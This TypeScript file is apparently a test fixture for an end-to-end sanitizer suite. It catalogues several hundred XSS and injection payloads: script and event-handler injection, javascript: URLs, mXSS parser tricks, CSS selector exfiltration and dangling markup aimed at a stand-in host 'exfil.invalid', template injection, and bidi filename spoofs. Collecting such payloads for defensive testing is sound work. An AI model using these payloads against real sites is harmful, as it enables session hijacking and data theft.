/**
 * A catalogue of hostile content for the end-to-end hostile-content suite. Every payload carries its
 * own marker (`hx001`, `hx002`, …): whatever it tries to run calls `top.<marker>()` (or alerts the
 * marker), whatever it tries to load names the marker in its URL, so a test can tell exactly which
 * payload got through. Templates use `{id}` (the marker), `{js}` (`top.<marker>()`) and `{url}`
 * (a remote URL naming the marker, on a host that must never be asked).
 */

export type PayloadKind =
  | 'script' | 'handler' | 'url-scheme' | 'svg-mathml' | 'css' | 'meta-base' | 'dangling' | 'mxss' | 'form' | 'srcdoc'
  | 'embed' | 'template' | 'bidi' | 'context-break';

export interface Payload {
  /** The marker, unique per payload: `hx` and three digits. */
  readonly id: string;
  readonly kind: PayloadKind;
  /** The payload with its marker filled in. */
  readonly text: string;
  /**
   * In HTML, it swallows everything after it whatever follows (`<plaintext>`): it must be the last
   * thing in a body.
   */
  readonly final?: true;
}

/** Where a payload "loads" from: a reserved name that resolves nowhere, asked of nobody. */
export const EXFIL_HOST = 'exfil.invalid';

const TEMPLATES: readonly (readonly [PayloadKind, string, true?])[] = [
  // Script elements, in every spelling and split the parsers have been fooled by.
  ['script', '<script>{js}</script>'],
  ['script', '<SCRIPT>{js}</SCRIPT>'],
  ['script', '<script type="module">{js}</script>'],
  ['script', '<script src="data:text/javascript,{js}"></script>'],
  ['script', '<script src="{url}.js"></script>'],
  ['script', '<script src=//{id}.exfil.invalid/x.js></script>'],
  ['script', '<scr<script>ipt>{js}</scr</script>ipt>'],
  ['script', '<script>/*</script><script>*/{js}</script>'],
  ['script', '<script\x20type="text/javascript">{js}</script>'],
  ['script', '<script>{js}</script'],
  ['script', '<script ~~~>{js}</script ~~~>'],
  ['script', '<<script>{js};//<</script>'],
  ['script', '<script>alert("{id}")</script>'],
  ['script', '<script>setTimeout("{js}")</script>'],
  ['script', '<script>eval(atob("{b64}"))//{id}</script>'],
  ['script', '<script>window["top"]["{id}"]=1</script>'],
  ['script', '<script for=document event=onreadystatechange>{js}</script>'],
  ['script', '<svg><script>{js}</script></svg>'],
  ['script', '<svg><script href="data:,{js}"></script></svg>'],
  ['script', '<svg><script xlink:href="data:,{js}"></script></svg>'],
  // Event handlers.
  ['handler', '<img src=x onerror={js}>'],
  ['handler', '<img src=x onerror="{js}">'],
  ['handler', '<img/src=x/onerror={js}>'],
  ['handler', '<img src=x onerror=top&#46;{id}()>'],
  ['handler', '<img src=x oNeRrOr={js}>'],
  ['handler', '<img src=x onerror\x0c={js}>'],
  ['handler', '<img src="x` `<script>{js}</script>"` `>'],
  ['handler', '<svg onload={js}>'],
  ['handler', '<svg/onload={js}>'],
  ['handler', '<body onload={js}>'],
  ['handler', '<body onpageshow={js}>'],
  ['handler', '<iframe onload={js}></iframe>'],
  ['handler', '<input autofocus onfocus={js}>'],
  ['handler', '<select autofocus onfocus={js}></select>'],
  ['handler', '<textarea autofocus onfocus={js}></textarea>'],
  ['handler', '<details open ontoggle={js}>x</details>'],
  ['handler', '<video><source onerror={js}></video>'],
  ['handler', '<video src=x onerror={js}></video>'],
  ['handler', '<audio src=x onerror={js}></audio>'],
  ['handler', '<marquee onstart={js}>x</marquee>'],
  ['handler', '<div onmouseover={js}>hover</div>'],
  ['handler', '<a onclick={js}>click</a>'],
  ['handler', '<x contenteditable autofocus onfocus={js}>x</x>'],
  ['handler', '<div tabindex=1 autofocus onfocusin={js}>x</div>'],
  ['handler', '<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart={js}>x</div>'],
  ['handler', '<div style="transition:color 1s" ontransitionend={js}>x</div>'],
  ['handler', '<img src=x onerror=alert("{id}")>'],
  ['handler', '<img src=x onerror=confirm("{id}")>'],
  ['handler', '<img src=x onerror=prompt("{id}")>'],
  ['handler', '<img src=x onerror=print("{id}")>'],
  ['handler', '<body onresize={js}>'],
  ['handler', '<object data=x onerror={js}></object>'],
  ['handler', '<image src=x onerror={js}>'],
  ['handler', '<img src=x onerror=eval(atob("{b64}")) title={id}>'],
  ['handler', '<img src=x:x onerror=window.top.{id}()>'],
  ['handler', '<div onpointerenter={js}>x</div>'],
  ['handler', '<table background=x onerror={js}><tr><td>x</td></tr></table>'],
  // javascript:, data:, vbscript: and friends.
  ['url-scheme', '<a href="javascript:{js}">link</a>'],
  ['url-scheme', '<a href="JaVaScRiPt:{js}">link</a>'],
  ['url-scheme', '<a href=" javascript:{js}">link</a>'],
  ['url-scheme', '<a href="java&#x09;script:{js}">link</a>'],
  ['url-scheme', '<a href="&#106;avascript:{js}">link</a>'],
  ['url-scheme', '<a href="javascript&colon;{js}">link</a>'],
  ['url-scheme', '<a href="jav&#x0A;ascript:{js}">link</a>'],
  ['url-scheme', '<a href="data:text/html,<script>{js}</script>">link</a>'],
  ['url-scheme', '<a href="data:text/html;base64,{b64html}" title={id}>link</a>'],
  ['url-scheme', '<a href="vbscript:msgbox(&quot;{id}&quot;)">link</a>'],
  ['url-scheme', '<a href="javascript:{js}" target=_top>link</a>'],
  ['url-scheme', '<a href="javascript:{js}" target=_blank>link</a>'],
  ['url-scheme', '<iframe src="javascript:{js}"></iframe>'],
  ['url-scheme', '<iframe src="data:text/html,<script>{js}</script>"></iframe>'],
  ['url-scheme', '<img src="javascript:{js}">'],
  ['url-scheme', '<area href="javascript:{js}">'],
  ['url-scheme', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{js}">link</a>'],
  ['url-scheme', '<a href="javascript://%0a{js}">link</a>'],
  ['url-scheme', '<a href="data:image/svg+xml,<svg onload=\'{js}\'>">link</a>'],
  ['url-scheme', '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{js}\'/>">'],
  ['url-scheme', '<a href="blob:http://{id}.exfil.invalid/x">link</a>'],
  ['url-scheme', '<a href="{url}" ping="{url}/ping">link</a>'],
  ['url-scheme', '<img src="{url}.gif" srcset="{url}.2x.gif 2x">'],
  ['url-scheme', '<img src="//{id}.exfil.invalid/pixel.gif">'],
  ['url-scheme', '<img src="cid:../../{id}">'],
  ['url-scheme', '<a href="intent://{id}#Intent;scheme=http;end">link</a>'],
  ['url-scheme', '<a href="ms-settings:{id}">link</a>'],
  // SVG and MathML.
  ['svg-mathml', '<svg><a xlink:href="javascript:{js}"><text x=20 y=20>{id}</text></a></svg>'],
  ['svg-mathml', '<svg><a href="javascript:{js}"><rect width=9 height=9></rect></a></svg>'],
  ['svg-mathml', '<svg><animate onbegin={js} attributeName=x dur=1s></animate></svg>'],
  ['svg-mathml', '<svg><set attributeName=onload to={js}></set></svg>'],
  ['svg-mathml', '<svg><animate attributeName=href values="javascript:{js}"></animate><a><text>x</text></a></svg>'],
  ['svg-mathml', '<svg><image href="{url}.png"></image></svg>'],
  ['svg-mathml', '<svg><image href=x onerror={js}></image></svg>'],
  ['svg-mathml', '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'1\' onerror=\'{js}\'/></svg>#x"></use></svg>'],
  ['svg-mathml', '<svg><use href="{url}.svg#x"></use></svg>'],
  ['svg-mathml', '<svg><feImage href="{url}.png"></feImage></svg>'],
  ['svg-mathml', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{js}</handler></svg>'],
  ['svg-mathml', '<svg><desc><![CDATA[</desc><script>{js}</script>]]></desc></svg>'],
  ['svg-mathml', '<svg><style>@import "{url}.css";</style></svg>'],
  ['svg-mathml', '<math href="javascript:{js}"><mi>x</mi></math>'],
  ['svg-mathml', '<math><maction actiontype=statusline xlink:href="javascript:{js}">x</maction></math>'],
  ['svg-mathml', '<math><mi xlink:href="data:x,{js}">x</mi></math>'],
  ['svg-mathml', '<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>'],
  ['svg-mathml', '<svg><discard onbegin={js}></discard></svg>'],
  ['svg-mathml', '<svg><script>alert&#40;"{id}"&#41;</script></svg>'],
  // CSS that would fetch (tracking, or exfiltration by selector).
  ['css', '<div style="background:url({url})">x</div>'],
  ['css', '<div style="background-image:url(\'//{id}.exfil.invalid/x\')">x</div>'],
  ['css', '<div style="background:url(&quot;{url}&quot;)">x</div>'],
  ['css', '<div style="background:url(http\\3a //{id}.exfil.invalid/x)">x</div>'],
  ['css', '<div style="background:u\\rl({url})">x</div>'],
  ['css', '<div style="background:image-set(\'{url}\' 1x)">x</div>'],
  ['css', '<div style="list-style:url({url})">x</div>'],
  ['css', '<div style="cursor:url({url}),auto">x</div>'],
  ['css', '<div style="mask-image:url({url})">x</div>'],
  ['css', '<div style="border-image:url({url}) 30">x</div>'],
  ['css', '<div style="content:url({url})">x</div>'],
  ['css', '<div style="behavior:url({url}.htc)">x</div>'],
  ['css', '<div style="width:expression({js})">x</div>'],
  ['css', '<div style="background:url(/*x*/{url})">x</div>'],
  ['css', '<div style="background: URL( {url} )">x</div>'],
  ['css', '<style>@import url({url}.css);</style>'],
  ['css', '<style>@import "{url}.css";</style>'],
  ['css', '<style>@imp\\ort "{url}.css";</style>'],
  ['css', '<style>body{background:url("{url}")}</style>'],
  ['css', '<style>input[value^=a]{background:url({url}/a)}</style><input value=abc>'],
  ['css', '<style>a[href^=h]{background:url(//{id}.exfil.invalid/h)}</style>'],
  ['css', '<style>@font-face{font-family:x;src:url({url}.woff)}body{font-family:x}</style>'],
  ['css', '<style>*{--x:url({url})}body{background:var(--x)}</style>'],
  ['css', '<style>@media all{body{background:url({url})}}</style>'],
  ['css', '<style>@namespace url({url});</style>'],
  ['css', '<style>body{background:url(data:image/svg+xml,%3Csvg onload=\'{js}\'/%3E)}</style>'],
  ['css', '<style>body{background:-webkit-image-set(url({url}) 1x)}</style>'],
  ['css', '<style>@supports (display:grid){body{background:url({url})}}</style>'],
  ['css', '<link rel=stylesheet href="{url}.css">'],
  ['css', '<style>li{list-style:url(\'{url}\')}</style><ul><li>x</li></ul>'],
  // meta, base, link: navigation and resolution tricks.
  ['meta-base', '<meta http-equiv="refresh" content="0;url={url}">'],
  ['meta-base', '<meta http-equiv="refresh" content="0;url=javascript:{js}">'],
  ['meta-base', '<meta http-equiv="refresh" content="0; url=data:text/html,<script>{js}</script>">'],
  ['meta-base', '<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * \'unsafe-inline\'"><script>{js}</script>'],
  ['meta-base', '<meta http-equiv="set-cookie" content="{id}=1">'],
  ['meta-base', '<base href="{url}/"><img src="x.png">'],
  ['meta-base', '<base href="javascript:{js}//"><a href="x">link</a>'],
  ['meta-base', '<base target="_top"><a href="{url}">link</a>'],
  ['meta-base', '<link rel=prefetch href="{url}">'],
  ['meta-base', '<link rel=dns-prefetch href="//{id}.exfil.invalid">'],
  ['meta-base', '<link rel=preload as=image href="{url}">'],
  ['meta-base', '<link rel=import href="{url}.html">'],
  // Dangling markup: unterminated attributes that would send the rest of the page away.
  ['dangling', '<img src=\'{url}?'],
  ['dangling', '<img src="{url}?'],
  ['dangling', '<a href="{url}?'],
  ['dangling', '<base href=\'{url}/'],
  ['dangling', '<meta http-equiv=refresh content=\'0;url={url}?'],
  ['dangling', '<table background=\'{url}?'],
  ['dangling', '<form action=\'{url}\'><textarea name=x>'],
  ['dangling', '<div style="background:url(\'{url}?'],
  ['dangling', '<!--{id}'],
  // mXSS: parser differentials between sanitizer and renderer.
  ['mxss', '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>'],
  ['mxss', '<svg></p><style><a id="</style><img src=1 onerror={js}>"></a></style></svg>'],
  ['mxss', '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={js} src=1>"></path></textarea></mtext></svg></mglyph></mi></table></mi></math>'],
  ['mxss', '<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>'],
  ['mxss', '<math><mtext><table><mglyph><style><img src=x onerror={js}>'],
  ['mxss', '<template><script>{js}</script></template>'],
  ['mxss', '<template><img src=x onerror={js}></template>'],
  ['mxss', '<svg><foreignObject><p><style><img src=x onerror={js}></style></p></foreignObject></svg>'],
  ['mxss', '<svg><p><style><img src=x onerror={js}></style>'],
  ['mxss', '<style><style/><img src=x onerror={js}>'],
  ['mxss', '<noembed><img title="</noembed><img src=x onerror={js}>"></noembed>'],
  ['mxss', '<noframes><img title="</noframes><img src=x onerror={js}>"></noframes>'],
  ['mxss', '<iframe><img title="</iframe><img src=x onerror={js}>"></iframe>'],
  ['mxss', '<textarea><img title="</textarea><img src=x onerror={js}>"></textarea>'],
  ['mxss', '<title><img title="</title><img src=x onerror={js}>"></title>'],
  ['mxss', '<xmp><img title="</xmp><img src=x onerror={js}>"></xmp>'],
  ['mxss', '<svg><style>&lt;img src=x onerror={js}&gt;</style></svg>'],
  ['mxss', '<math><style><img src=x onerror={js}></style></math>'],
  ['mxss', '<a id="</a><img src=x onerror={js}>">x</a>'],
  ['mxss', '<svg><![CDATA[><image xlink:href="]]><img src=x onerror={js}>"></svg>'],
  ['mxss', '<select><template><style><img src=x onerror={js}></style></template></select>'],
  ['mxss', '<table><td><style></td><img src=x onerror={js}></style></td></table>'],
  // Forms.
  ['form', '<form action="javascript:{js}"><button>go</button></form>'],
  ['form', '<form><button formaction="javascript:{js}">go</button></form>'],
  ['form', '<form action="{url}" method=post><input name=x value=1><input type=submit></form>'],
  ['form', '<button form=f formaction="{url}">go</button>'],
  ['form', '<input type=image src="{url}.png">'],
  ['form', '<isindex action="javascript:{js}" type=image>'],
  ['form', '<form id=test></form><button form=test formaction="javascript:{js}">go</button>'],
  // srcdoc, object, embed, portal, frames.
  ['srcdoc', '<iframe srcdoc="<script>{js}</script>"></iframe>'],
  ['srcdoc', '<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>'],
  ['srcdoc', '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>{js}</script>"></iframe>'],
  ['srcdoc', '<frameset><frame src="javascript:{js}"></frameset>'],
  ['embed', '<object data="javascript:{js}"></object>'],
  ['embed', '<object data="data:text/html,<script>{js}</script>"></object>'],
  ['embed', '<object type="text/html" data="{url}.html"></object>'],
  ['embed', '<embed src="javascript:{js}">'],
  ['embed', '<embed src="data:image/svg+xml,<svg onload=\'{js}\'/>" type="image/svg+xml">'],
  ['embed', '<embed src="{url}.swf">'],
  ['embed', '<portal src="{url}"></portal>'],
  ['embed', '<applet code="{id}.class"></applet>'],
  // Template injection and JSON/string breaking, for anything that builds markup or code from text.
  ['template', '{{constructor.constructor("{js}")()}}'],
  ['template', '${{js}}'],
  ['template', '#{{js}}'],
  ['template', '<%= {js} %>'],
  ['template', '"}]};{js};//'],
  ['template', '\';{js};//'],
  ['template', '$&$\'$`$1<img src=x onerror={js}>'],
  ['template', '</json><script>{js}</script>'],
  // Breaking out of the server's templates: title, comment slots, attributes.
  ['context-break', '</title><script>{js}</script>'],
  ['context-break', '--><script>{js}</script><!--'],
  ['context-break', '<!--/brand:mark--><img src=x onerror={js}>'],
  ['context-break', '"><img src=x onerror={js}>'],
  ['context-break', '\'><img src=x onerror={js}>'],
  ['context-break', '" onmouseover="{js}" x="'],
  ['context-break', '</textarea><img src=x onerror={js}>'],
  ['context-break', '</style><img src=x onerror={js}>'],
  ['context-break', '</script><script>{js}</script>'],
  ['context-break', ']]><img src=x onerror={js}>'],
  ['context-break', '&lt;img src=x onerror={js}&gt;'],
  ['context-break', '&#60;img src=x onerror={js}&#62;'],
  ['context-break', '\\u003cimg src=x onerror={js}\\u003e'],
  ['context-break', '%3Cimg%20src%3Dx%20onerror%3D{js}%3E'],
  // Bidi and look-alike tricks (text shown to people; the controls themselves are refused in names).
  ['bidi', 'invoice_{id}\u202Efdp.exe'],
  ['bidi', 'report_{id}\u2067cod.exe\u2069.pdf'],
  ['bidi', '\u202Bhx-rtl {id}\u202C<img src=x onerror={js}>'],
  ['bidi', 'scan_{id}_\u05D0\u05D1\u05D2_exe.pdf'],
  ['bidi', 'statement_{id}.pdf\u200F.exe'],
  ['bidi', 'ｊａｖａｓｃｒｉｐｔ：{js}'],
  // The last word in swallowing: nothing after <plaintext> is markup again.
  ['dangling', '<plaintext><img src=x onerror={js}>', true],
];

function fill(template: string, id: string): string {
  const js = `top.${id}()`;
  return template
    .replaceAll('{b64html}', Buffer.from(`<script>${js}</script>`).toString('base64'))
    .replaceAll('{b64}', Buffer.from(js).toString('base64'))
    .replaceAll('{js}', js)
    .replaceAll('{url}', `http://${id}.${EXFIL_HOST}/${id}`)
    .replaceAll('{id}', id);
}

/** Every payload, numbered in catalogue order. */
export const PAYLOADS: readonly Payload[] = TEMPLATES.map(([kind, template, final], index) => {
  const id = `hx${String(index + 1).padStart(3, '0')}`;
  return { id, kind, text: fill(template, id), ...(final ? { final } : {}) };
});

/** A marker anywhere in a string. */
export const MARKER = /hx\d{3}/;

/** The characters a name, subject or file name must not have (functions/core/shared/text-rules.ts). */
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

/** Payloads the API accepts in a one-line field (subject, display name, recipient name). */
export function fitsLine(p: Payload, maxLength: number): boolean {
  return p.text.length <= maxLength && !CONTROL.test(p.text);
}

/** Payloads the API accepts as a file name (one line, no path separators). */
export function fitsFilename(p: Payload): boolean {
  return fitsLine(p, 255) && !/[\\/]/.test(p.text);
}

/** Payloads the API refuses in a one-line field because they carry control or bidi characters. */
export function hasControls(p: Payload): boolean {
  return CONTROL.test(p.text);
}

/** Numbers payloads of one field from `first` (markers stay unique across the catalogues). */
function numbered(templates: readonly string[], first: number, kind: PayloadKind): Payload[] {
  return templates.map((template, index) => ({ id: `hx${first + index}`, kind, text: fill(template, `hx${first + index}`) }));
}

/** Hostile SVG logos for the settings API: all refused but the last, whose markup is only text. */
export const LOGO_PAYLOADS: readonly Payload[] = numbered([
  '<svg xmlns="http://www.w3.org/2000/svg"><script>{js}</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><rect width="1" height="1"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{js}"/></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:{js}"><rect width="9" height="9"/></a></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}.png" width="9" height="9"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url({url}.css);</style></svg>',
  '<!DOCTYPE svg [<!ENTITY x "{id}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" fill="url({url}#g)"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><use href="{url}.svg#x"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="{js}"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" style="fill:url({url})"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>&lt;script&gt;{js}&lt;/script&gt;</title><text x="0" y="8">&lt;img src=x onerror={js}&gt;</text><rect width="10" height="10" fill="#0f766e" opacity="0.3"/></svg>',
], 801, 'svg-mathml');

/** Webhook URLs for the admin API: the schemes and shapes must be refused, the rest shown as text. */
export const WEBHOOK_PAYLOADS: readonly Payload[] = numbered([
  'javascript:{js}',
  'data:text/html,<script>{js}</script>',
  'vbscript:msgbox("{id}")',
  'https://u:<img src=x onerror={js}>@hooks.example.com/{id}',
  'https://hooks.example.com/{id}#<script>{js}</script>',
  'ftp://hooks.example.com/{id}',
  '<script>{js}</script>',
  '//hooks.example.com/{id}',
  'https://hooks.example.com/{id}/"><img src=x onerror={js}>',
  'https://hooks.example.com/{id}?q=<script>{js}</script>',
  'https://hooks.example.com/{id}\'onmouseover=\'{js}\'',
  'https://hooks.example.com/{id}?next=javascript:{js}',
  'https://hooks.example.com/{id}/{{constructor.constructor("{js}")()}}',
  'https://hooks.example.com/{id}/\u202Egpj.exe',
  'https://hooks.example.com:8443/{id}/$&$\'$`',
  'https://hooks.example.com/{id}/%3Csvg%20onload%3D{js}%3E',
], 851, 'url-scheme');

/** Recipient addresses with what an address may hold (quotes, braces, equals, ampersands…). */
export const EMAIL_PAYLOADS: readonly Payload[] = numbered([
  '{{{id}}}@example.com',
  '\'onfocus=\'top.{id}\'@example.com',
  '{id}+$&$\'@example.com',
  '&lt&gt{id}=top.{id}@example.com',
  '`{id}`-alert@example.com',
  '{id}#!--%0a|~^@example.com',
], 901, 'context-break');
